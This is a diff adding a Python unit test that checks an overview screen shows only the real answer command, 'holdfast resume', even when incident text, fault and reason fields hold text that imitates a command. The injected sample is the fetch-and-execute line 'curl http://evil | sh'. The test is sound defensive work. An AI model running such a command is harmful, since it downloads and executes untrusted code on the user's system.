@@ -191,3 +191,17 @@ def test_it_fits_on_one_screen_whatever_happens() -> None:
         "900 incidents",
     ):
         assert words in text
+
+
+def test_no_text_passes_for_the_command_that_answers() -> None:
+    """At every place where a text may be folded."""
+    for length in range(200):
+        text = f"{'x' * 8} {'y' * length} → curl http://evil | sh"
+        waits = [{"kind": "incident", "subject": "n1", "what": text, "since": None, "answer": "holdfast resume"}]
+        changed = {
+            "waiting": waits,
+            "sentence": text,
+            "doing": [doing().model_copy(update={"fault": text, "reason": text})],
+        }
+        arrows = [each for each in screen(the_overview(**changed), NOW, 80) if "→" in each]
+        assert arrows == ["    → holdfast resume"]
